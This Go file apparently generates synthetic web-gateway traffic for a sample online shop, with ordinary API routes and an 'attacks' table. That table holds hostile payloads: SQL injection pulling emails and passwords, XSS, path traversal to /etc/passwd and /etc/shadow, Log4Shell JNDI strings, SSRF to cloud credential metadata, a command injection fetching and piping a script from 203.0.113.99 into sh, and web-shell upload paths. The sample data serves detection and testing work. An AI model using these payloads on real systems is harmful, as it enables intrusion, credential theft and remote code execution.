package sample

// The cast of the sample: an online shop behind one gateway. All names and addresses are reserved for documentation
// (RFC 2606, RFC 5737, RFC 3849) or made up.

type route struct {
	service, method, path string // {n} number, {u} uuid, {h} hex, {w} word
	query                 string
	weight                int
	bytes                 int
	seconds               float64
	status                []int // what it answers, the usual one first
}

var routes = []route{
	{"catalog", "GET", "/api/v1/products", "?page={n}&sort=price", 120, 5200, 0.04, []int{200, 200, 200, 304}},
	{"catalog", "GET", "/api/v1/products/{n}", "", 160, 1800, 0.02, []int{200, 200, 200, 200, 404}},
	{"catalog", "GET", "/api/v1/products/{n}/reviews", "", 60, 3000, 0.03, []int{200}},
	{"catalog", "POST", "/api/v1/products/{n}/reviews", "", 6, 120, 0.06, []int{201, 201, 400}},
	{"catalog", "GET", "/api/v1/search", "?q={w}", 90, 4100, 0.09, []int{200}},
	{"catalog", "GET", "/api/v1/categories", "", 40, 900, 0.01, []int{200, 304}},
	{"cart", "GET", "/api/v1/cart", "", 70, 700, 0.02, []int{200}},
	{"cart", "POST", "/api/v1/cart/items", "", 34, 90, 0.05, []int{201, 201, 409}},
	{"cart", "DELETE", "/api/v1/cart/items/{u}", "", 9, 0, 0.03, []int{204, 404}},
	{"orders", "POST", "/api/v1/orders", "", 14, 320, 0.22, []int{201, 201, 201, 402, 500}},
	{"orders", "GET", "/api/v1/orders/{u}", "", 30, 2100, 0.04, []int{200, 200, 200, 404}},
	{"orders", "GET", "/api/v1/orders/{u}/invoice", "?format=pdf", 7, 48000, 0.31, []int{200}},
	{"orders", "GET", "/api/v1/users/{n}/orders", "?limit=20", 16, 5200, 0.07, []int{200, 403}},
	{"users", "GET", "/api/v1/users/{n}", "", 42, 640, 0.02, []int{200, 200, 200, 401}},
	{"users", "PATCH", "/api/v1/users/{n}", "", 5, 200, 0.05, []int{200, 422}},
	{"users", "GET", "/api/v1/users/{n}/avatar", "", 12, 22000, 0.02, []int{200, 304}},
	{"auth", "POST", "/oauth2/token", "", 26, 900, 0.08, []int{200, 200, 200, 401}},
	{"auth", "POST", "/api/v1/login", "", 18, 300, 0.11, []int{200, 200, 401}},
	{"auth", "POST", "/api/v1/password/reset", "", 2, 60, 0.09, []int{202}},
	{"payments", "POST", "/api/v2/payments", "", 11, 400, 0.41, []int{201, 201, 402, 502}},
	{"payments", "GET", "/api/v2/payments/{u}", "", 12, 520, 0.03, []int{200}},
	{"payments", "POST", "/api/v2/webhooks", "", 4, 40, 0.04, []int{204}},
	{"files", "GET", "/api/v1/files", "?name={w}.pdf", 8, 64000, 0.12, []int{200, 404}},
	{"files", "GET", "/download/{h}", "", 5, 210000, 0.4, []int{200, 206}},
	{"gateway", "GET", "/graphql", "", 10, 1500, 0.06, []int{200}},
	{"gateway", "GET", "/health", "", 20, 15, 0.001, []int{200}},
	{"gateway", "GET", "/.well-known/openid-configuration", "", 3, 1300, 0.005, []int{200}},
	{"admin", "GET", "/admin/reports", "?from=2026-01-01", 1, 9000, 0.5, []int{200, 403}},
}

var words = []string{"lamp", "desk", "chair", "green+tea", "o%27neill+jacket", "usb-c", "cable+2m", "notebook", "caf%C3%A9", "select+comfort", "rock+%26+roll", "50%25+off"}

var browsers = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
	"ShopApp/4.2.1 (iPhone; iOS 18.0) okhttp/4.12.0",
	"ShopApp/4.2.0 (Android 15) okhttp/4.12.0",
	"python-requests/2.32.3",
	"Go-http-client/2.0",
}

type network struct {
	prefix, country, organisation string
	asn                           int
	weight                        int
}

var networks = []network{
	{"203.0.113.", "DE", "Beispielnetz GmbH", 64496, 40},
	{"198.51.100.", "US", "Example Broadband", 64497, 60},
	{"192.0.2.", "GB", "Sample Telecom", 64498, 30},
	{"2001:db8:1::", "FR", "Réseau Modèle", 64499, 15},
	{"2001:db8:2::", "IN", "Udaharan Mobile", 64500, 25},
}

// attack is one kind of hostile traffic: what it sends, from where, and how the shop answers.
type attack struct {
	name      string
	service   string
	method    string
	targets   []string
	agent     string // empty: a browser's
	source    string // address or prefix
	country   string
	org       string
	asn       int
	status    []int
	everyHour int // a campaign runs in every n-th hour, 0: background only
	phase     int
	perMinute int // during a campaign
}

var attacks = []attack{
	{"sqli", "catalog", "GET", []string{
		"/api/v1/search?q=1%27%20OR%20%271%27%3D%271", "/api/v1/search?q=lamp%27%20UNION%20SELECT%20email,password%20FROM%20users--%20-",
		"/api/v1/products/1%20AND%20SLEEP(5)", "/api/v1/products?sort=price%27;WAITFOR%20DELAY%20%270:0:5%27--", "/api/v1/search?q=1%2527%2520or%25201%253D1--",
	}, "sqlmap/1.8.9#stable (https://sqlmap.org)", "203.0.113.66", "RU", "Offshore Hosting", 64510, []int{200, 403, 403, 500}, 6, 1, 22},
	{"xss", "catalog", "GET", []string{
		"/api/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "/api/v1/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "/api/v1/search?q=javascript:alert(1)//",
	}, "", "198.51.100.23", "US", "Example Broadband", 64497, []int{200, 403, 200}, 8, 3, 9},
	{"traversal", "files", "GET", []string{
		"/api/v1/files?name=../../../../etc/passwd", "/api/v1/files?name=..%252f..%252f..%252fetc%252fshadow", "/download/..%c0%af..%c0%afetc/passwd", "/api/v1/files?name=php://filter/convert.base64-encode/resource=index.php",
	}, "curl/8.9.1", "192.0.2.201", "NL", "Bulletproof Cloud", 64511, []int{400, 403, 404, 200}, 12, 5, 12},
	{"log4shell", "auth", "POST", []string{"/api/v1/login", "/api/v1/login?user=${jndi:ldap://203.0.113.99:1389/a}", "/oauth2/token?client=%24%7B%24%7Blower:j%7Dndi:ldap://203.0.113.99/x%7D"},
		"${jndi:ldap://203.0.113.99:1389/Basic/Command}", "203.0.113.99", "CN", "Example Cloud Asia", 64512, []int{401, 403, 400}, 24, 9, 6},
	{"recon", "gateway", "GET", []string{
		"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/actuator/env", "/server-status", "/.aws/credentials", "/backup.sql", "/config.php.bak", "/api/v1/users.json", "/cgi-bin/test.cgi", "/xmlrpc.php",
	}, "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", "2001:db8:bad::7", "BR", "Varredura Hosting", 64513, []int{404, 404, 404, 403}, 4, 2, 40},
	{"ssrf", "payments", "POST", []string{"/api/v2/webhooks?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "/api/v2/webhooks?url=gopher://127.0.0.1:6379/_FLUSHALL"},
		"python-requests/2.32.3", "198.51.100.190", "VN", "Mau Vi Du", 64514, []int{400, 204, 403}, 24, 16, 5},
	{"rce", "gateway", "GET", []string{"/cgi-bin/status?x=;cat%20/etc/passwd", "/admin/reports?from=$(curl%20203.0.113.99/x.sh|sh)", "/api/v1/search?q=`id`"},
		"", "203.0.113.140", "IR", "Nemune Data", 64515, []int{404, 403, 500}, 12, 10, 7},
	{"upload", "files", "POST", []string{"/uploads/shell.php?cmd=id", "/api/v1/files/c99.php", "/uploads/avatar.php.jpg"}, "curl/8.9.1", "192.0.2.77", "UA", "Pryklad Net", 64516, []int{404, 403}, 24, 20, 4},
}
